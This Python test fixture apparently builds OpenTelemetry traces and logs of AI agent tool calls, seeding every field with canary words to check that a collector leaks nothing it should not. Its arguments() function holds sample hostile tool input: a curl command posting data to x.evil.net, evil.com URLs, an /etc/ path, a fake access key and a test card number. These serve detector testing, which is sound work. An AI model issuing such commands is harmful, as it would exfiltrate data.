"""Words that must not be seen again: one for each place where an agent can put text."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

if TYPE_CHECKING:
    from opentelemetry.proto.common.v1.common_pb2 import InstrumentationScope
    from opentelemetry.proto.resource.v1.resource_pb2 import Resource
    from opentelemetry.proto.trace.v1.trace_pb2 import Span

CANARY = re.compile(rb"canary\d{4}[a-z]+", re.IGNORECASE)
TOLD = ("agent", "session", "tool", "user", "tenant", "callid")
"""Places whose text is told by contract: who called what."""
SECRET = "AKIAIOSFODNN7EXAMPLQ"


class Canaries:
    """Makes them, and knows which may be told."""

    def __init__(self) -> None:
        self.made: list[str] = []

    def __call__(self, place: str) -> str:
        """A word for a place, never the same twice."""
        assert place.isalpha()
        assert place.islower()
        self.made.append(f"canary{len(self.made):04d}{place}")
        return self.made[-1]

    def seen(self, text: str | bytes, allowed: tuple[str, ...] = ()) -> set[str]:
        """Those in `text` that may not be there."""
        data = text.encode(errors="replace") if isinstance(text, str) else text
        found = {match[0].decode().lower() for match in CANARY.finditer(data)}
        return {word for word in found if word[len("canary0000") :] not in allowed}


def traces(canary: Canaries, time_ns: int, calls: int = 4) -> bytes:
    """Calls that make many detectors fire, with a canary in every field of every kind."""
    message = ExportTraceServiceRequest()
    place = message.resource_spans.add(schema_url=canary("schema"))
    scope = place.scope_spans.add(schema_url=canary("schema"))
    _surround(canary, place.resource, scope.scope)
    who = {
        "gen_ai.agent.name": canary("agent"),
        "gen_ai.conversation.id": canary("session"),
        "user.id": canary("user"),
        "tenant.id": canary("tenant"),
        "gen_ai.tool.name": canary("tool"),
    }
    for number in range(calls):
        span = scope.spans.add(
            trace_id=bytes([7] * 16),
            span_id=bytes([number + 1] * 8),
            name=f"execute_tool {canary('spanname')}",
            trace_state=f"v={canary('tracestate')}",
            start_time_unix_nano=time_ns - 1,
            end_time_unix_nano=time_ns,
        )
        _call(canary, span, who)
    return message.SerializeToString()


def _surround(canary: Canaries, resource: Resource, scope: InstrumentationScope) -> None:
    """Text in a resource and a scope."""
    _say(resource.attributes, f"key.{canary('resourcekey')}", canary("resourcevalue"))
    _say(resource.attributes, "service.name", "agents")
    scope.name, scope.version = canary("scopename"), canary("scopeversion")
    _say(scope.attributes, "note", canary("scopevalue"))


def _say(attributes: Any, key: str, value: str) -> None:
    attributes.add(key=key).value.string_value = value


def arguments(canary: Canaries) -> str:
    """What a tool is called with: enough for the detectors that read it to find something."""
    said = {
        canary("argumentname"): canary("argument"),
        "url": f"https://{canary('host')}.evil.com/{canary('path')}?q={canary('query')}",
        "token": SECRET,
        "to": f"{canary('mailname')}@evil.org",
        "file": f"/etc/{canary('filename')}",
        "command": f"curl https://x.evil.net -d {canary('command')} && {canary('program')}",
        "card": "4111 1111 1111 1111",
    }
    return json.dumps(said)


def _call(canary: Canaries, span: Span, who: dict[str, str]) -> None:
    """One tool call."""
    for key, value in who.items():
        _say(span.attributes, key, value)
    _say(span.attributes, "gen_ai.operation.name", "execute_tool")
    _say(span.attributes, "gen_ai.tool.call.id", canary("callid"))
    _say(span.attributes, "gen_ai.tool.call.arguments", arguments(canary))
    _say(span.attributes, "gen_ai.tool.call.result", canary("result"))
    _say(span.attributes, "gen_ai.prompt", canary("prompt"))
    _say(span.attributes, f"key.{canary('key')}", canary("value"))
    _say(span.attributes, "anomaly.reason", canary("forged"))
    nested = span.attributes.add(key="nested").value
    pair = nested.kvlist_value.values.add(key=canary("mapname"))
    pair.value.array_value.values.add(string_value=canary("item"))
    span.attributes.add(key="bytes").value.bytes_value = canary("bytes").encode()
    span.status.code, span.status.message = 2, canary("status")
    event = span.events.add(name=canary("eventname"))
    _say(event.attributes, "exception.message", canary("exception"))
    _say(event.attributes, "exception.stacktrace", canary("stacktrace"))
    link = span.links.add(trace_state=canary("linkstate"))
    _say(link.attributes, "note", canary("link"))


def logs(canary: Canaries, time_ns: int, calls: int = 4) -> bytes:
    """The same as log records."""
    message = ExportLogsServiceRequest()
    place = message.resource_logs.add(schema_url=canary("schema"))
    scope = place.scope_logs.add(schema_url=canary("schema"))
    _surround(canary, place.resource, scope.scope)
    for number in range(calls):
        record = scope.log_records.add(
            time_unix_nano=time_ns, severity_text=canary("severity"), event_name=canary("event")
        )
        record.body.string_value = canary("body")
        for key, value in {
            "event.name": "codex.tool_result",
            "tool_name": canary("tool"),
            "call_id": f"{number}",
            "conversation.id": canary("session"),
            "arguments": arguments(canary),
            "output": canary("result"),
            canary("key"): canary("value"),
        }.items():
            _say(record.attributes, key, value)
    return message.SerializeToString()


def broken(canary: Canaries) -> list[tuple[str, bytes]]:
    """Requests that nobody can read: content type and body."""
    in_json: list[Any] = [
        f'{{"resourceSpans": [{{"{canary("unknownname")}": 1}}], "x": {canary("bare")}',
        {"resourceSpans": canary("nolist")},
        {"resourceSpans": [{"scopeSpans": [{"spans": [{"traceId": canary("traceid")}]}]}]},
        {"resourceSpans": [{"scopeSpans": [{"spans": [{"kind": canary("kind")}]}]}]},
        {"resourceSpans": [{"scopeSpans": [{"spans": [{"startTimeUnixNano": canary("time")}]}]}]},
        {"resourceSpans": [{"resource": {"attributes": [{"key": 1, canary("name"): "x"}]}}]},
        {"resourceSpans": [{"resource": {"attributes": {canary("map"): canary("inmap")}}}]},
        f'{{"resourceSpans": [], "a": "{canary("control")}\x01"}}',
        [canary("array")],
        f'"{canary("string")}"',
    ]
    whole = traces(canary, 1, calls=1)
    return [
        *(
            ("application/json", (text if isinstance(text, str) else json.dumps(text)).encode())
            for text in in_json
        ),
        ("application/json", b"\xff" + canary("utf").encode()),
        ("application/x-protobuf", whole[:-7]),
        ("application/x-protobuf", canary("protobuf").encode()),
        ("application/x-protobuf", whole.replace(b"nested", b"nest\xff\xff")),
        (canary("contenttype"), whole),
    ]
